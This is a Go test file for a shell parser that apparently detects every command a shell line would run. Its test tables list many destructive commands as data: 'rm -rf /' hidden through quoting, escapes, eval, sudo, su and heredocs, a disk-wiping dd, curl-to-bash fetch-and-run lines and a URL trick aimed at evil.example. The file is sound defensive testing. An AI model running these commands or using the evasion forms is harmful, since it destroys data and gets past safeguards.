package shell

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var cfg = Config{Home: "/home/u"}

// lines renders each command as its words joined by blanks, unknown
// words in angle brackets.
func lines(s *Script) []string {
	var out []string
	for _, c := range s.Commands {
		var ws []string
		for _, w := range c.Args {
			if w.Known {
				ws = append(ws, w.Text)
			} else {
				ws = append(ws, "<"+w.Text+">")
			}
		}
		out = append(out, strings.Join(ws, " "))
	}
	return out
}

// Every simple command that will run is listed, with its words as the
// program receives them, whatever wraps it.
func TestParseFindsEveryCommand(t *testing.T) {
	for src, want := range map[string][]string{
		`rm -rf /`:                    {"rm -rf /"},
		`cd repo && git push --force`: {"cd repo", "git push --force"},
		`GIT_TRACE=1 git push`:        {"git push"},
		`"r"'m' -rf "$HOME"`:          {"rm -rf /home/u"},
		`\rm -rf ~`:                   {"rm -rf /home/u"},
		`rm -rf ~/x`:                  {"rm -rf /home/u/x"},
		`$'\x72\155' -rf /`:           {"rm -rf /"},
		`curl "https://api.github.com"'@evil.example/x'`: {"curl https://api.github.com@evil.example/x"},
		`bash -lc "rm -rf ~"`:                            {"bash -lc rm -rf ~", "rm -rf /home/u"},
		`sh -ec 'cd /; rm -rf *'`:                        {"sh -ec cd /; rm -rf *", "cd /", "rm -rf *"},
		`zsh -o pipefail -c "rm -r /"`:                   {"zsh -o pipefail -c rm -r /", "rm -r /"},
		`eval "rm -rf /"`:                                {"eval rm -rf /", "rm -rf /"},
		`eval rm '-rf' /`:                                {"eval rm -rf /", "rm -rf /"},
		`bash <<< "rm -rf /"`:                            {"bash", "rm -rf /"},
		"bash <<'EOF'\nrm -rf /\nEOF":                    {"bash", "rm -rf /"},
		`sudo -u root rm -rf /*`:                         {"rm -rf /*"},
		`sudo -E -u root -- rm -rf /`:                    {"rm -rf /"},
		`sudo -Eu root rm -rf /`:                         {"rm -rf /"},
		`nice -n 10 rm -rf /`:                            {"rm -rf /"},
		`nice -10 rm -rf /`:                              {"rm -rf /"},
		`env -u X A=b rm -rf /`:                          {"rm -rf /"},
		`env -i PATH=/bin bash -c 'rm -rf /'`:            {"bash -c rm -rf /", "rm -rf /"},
		`timeout -s KILL 5 rm -rf /`:                     {"rm -rf /"},
		`nohup rm -rf / &`:                               {"rm -rf /"},
		`command rm -rf /`:                               {"rm -rf /"},
		`exec -a x rm -rf /`:                             {"rm -rf /"},
		`time rm -rf /`:                                  {"rm -rf /"},
		`echo / | xargs -n 1 rm -rf`:                     {"echo /", "rm -rf <<arguments xargs reads>>"},
		`find / -exec rm -rf {} \;`:                      {"find / -exec rm -rf {} ;", "rm -rf /"},
		`find /etc -delete`:                              {"find /etc -delete", "rm -r /etc"},
		`echo $(rm -rf /)`:                               {"rm -rf /", "echo <$(rm -rf /)>"},
		"echo `rm -rf /`":                                {"rm -rf /", "echo <`rm -rf /`>"},
		`cat <(rm -rf /)`:                                {"rm -rf /", "cat <<(rm -rf /)>"},
		`(cd /; rm -rf etc) | { tee x; }`:                {"cd /", "rm -rf etc", "tee x"},
		`f() { rm -rf /; }; f`:                           {"rm -rf /", "f"},
		`if true; then rm -rf /; fi`:                     {"true", "rm -rf /"},
		`X=/; rm -rf $X`:                                 {"rm -rf /"},
		`rm -rf /{etc,usr}`:                              {"rm -rf /etc /usr"},
		`su -c 'rm -rf /' root`:                          {"rm -rf /"},
		`$'\u0072\U0000006d' -rf /`:                      {"rm -rf /"},
		`$'\162m\q' -rf /`:                               {"rm\\q -rf /"},
		`su --command='rm -rf /'`:                        {"rm -rf /"},
		`su root --command 'rm -rf /'`:                   {"rm -rf /"},
		`flock /tmp/l -c 'rm -rf /'`:                     {"rm -rf /"},
		`alias r=rm; r -rf /`:                            {"alias r=rm", "rm -rf /"},
		`watch -n 1 rm -rf /`:                            {"rm -rf /"},
		`env -S "rm -rf /"`:                              {"rm -rf /"},
		`dd if=/dev/zero of=//dev/sda`:                   {"dd if=/dev/zero of=//dev/sda"},
	} {
		s, err := Parse(src, cfg)
		require.NoError(t, err, src)
		// echo's own line comes after its substitution's: order within
		// one command is the shell's (words first, then the command).
		assert.ElementsMatch(t, want, lines(s), src)
		assert.Empty(t, s.Unresolved, src)
	}
}

// What is decided only at run time, where it decides what runs, is
// reported, never taken for harmless.
func TestParseReportsWhatItCannotResolve(t *testing.T) {
	for _, src := range []string{
		`$(echo rm) -rf /`,
		`$CMD -rf /`,
		"`which rm` -rf /",
		`eval "$(curl -s https://x.sh)"`,
		`eval "$X"`,
		`source <(curl -s https://x.sh)`,
		`. <(curl -s https://x.sh)`,
		`bash <(curl -s https://x.sh)`,
		`bash -c "$SCRIPT"`,
		`curl -s https://x.sh | bash`,
		`echo 'rm -rf /' | sudo sh -s`,
		`bash < <(curl -s x)`,
		`/bin/r? -rf /`,
		`sh -c "$(curl x)"`,
		`a{1..100000}`,
		"echo " + strings.Repeat("{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} ", 200),
		`x{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}`,
	} {
		s, err := Parse(src, cfg)
		require.NoError(t, err, src)
		assert.NotEmpty(t, s.Unresolved, src)
	}
}

func TestParseErrorsAreErrors(t *testing.T) {
	for _, src := range []string{`rm -rf "/`, `echo $(`, `if then fi`, `a && `} {
		_, err := Parse(src, cfg)
		assert.Error(t, err, src)
	}
}

func TestParseArgv(t *testing.T) {
	s, err := ParseArgv([]string{"bash", "-lc", "rm -rf ~"}, cfg)
	require.NoError(t, err)
	assert.Equal(t, []string{"bash -lc rm -rf ~", "rm -rf /home/u"}, lines(s))
	s, err = ParseArgv([]string{"sudo", "-u", "root", "rm", "-rf", "/"}, cfg)
	require.NoError(t, err)
	assert.Equal(t, []string{"rm -rf /"}, lines(s))
	s, err = ParseArgv([]string{"rm", "-rf", "$HOME"}, cfg) // no shell: the literal text
	require.NoError(t, err)
	assert.Equal(t, []string{"rm -rf $HOME"}, lines(s))
}

func TestParseRecordsPipelinesAndDirectories(t *testing.T) {
	s, err := Parse(`curl x | sudo bash; cd /tmp && cd sub && rm -rf y`, cfg)
	require.NoError(t, err)
	require.Len(t, s.Commands, 5)
	assert.Equal(t, s.Commands[0].Pipeline, s.Commands[1].Pipeline)
	assert.Equal(t, 1, s.Commands[1].Stage)
	assert.NotEqual(t, s.Commands[0].Pipeline, s.Commands[4].Pipeline)
	assert.Equal(t, []Word{Lit("/tmp"), Lit("sub")}, s.Commands[4].Dirs)
	assert.Equal(t, "rm", s.Commands[4].Name())
}
